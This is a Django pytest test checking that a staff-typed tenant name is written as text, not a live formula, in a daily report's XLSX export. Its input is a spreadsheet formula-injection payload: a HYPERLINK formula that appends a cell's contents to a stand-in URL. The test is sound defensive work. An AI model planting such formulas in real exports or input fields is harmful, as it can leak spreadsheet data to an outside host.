"""Names typed by staff are text in the daily report's workbook, never a formula (issue 16)."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

from mpp.catalog.models import Tenant

FORMULA = '=HYPERLINK("http://x"&B2,"Klik")'


def test_a_tenant_named_like_a_formula_is_text_in_the_daily_report(  # type: ignore[no-untyped-def]
    client, monday, cast, issue
):
    Tenant.objects.filter(slug="disdukcapil").update(name=FORMULA, short_name=FORMULA)
    issue("perekaman-ktp-el")
    client.force_login(cast.supervisor_mpp())
    url = reverse("queueing:report", args=["mpp-kukar"])

    response = client.get(url, {"tanggal": "2026-11-30", "format": "xlsx"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    found = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
